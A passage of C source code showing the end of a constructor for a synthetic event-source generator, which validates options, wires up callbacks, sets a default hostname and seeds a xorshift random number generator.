    if (opt->scenario && *opt->scenario && strcmp(opt->scenario, "mixed") != 0)
        return source_scenario_new(opt->scenario);
    if (opt->rate < 0 || opt->rate != opt->rate)
        return NULL;
    g = calloc(1, sizeof *g);
    if (!g)
        return NULL;
    g->base.name = "synthetic";
    g->base.produce = synthetic_produce;
    g->base.destroy = synthetic_destroy;
    g->base.release = synthetic_release;
    g->pooled = opt->pooled;
    g->rate = opt->rate;
    g->count = opt->count;
    snprintf(g->host, sizeof g->host, "%s", opt->hostname && *opt->hostname ? opt->hostname : "node-1");
    if (seed == 0) {
        struct timespec ts;

        clock_gettime(CLOCK_REALTIME, &ts);
        seed = (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
    }
    g->rng = splitmix64(&seed);
    if (g->rng == 0)
        g->rng = 0x9e3779b97f4a7c15ULL;  /* xorshift must not start at 0 */
    for (unsigned i = 0; i < SYN_CONTAINERS; i++)
        make_container(g, &g->pool[i], i);
    return &g->base;
}
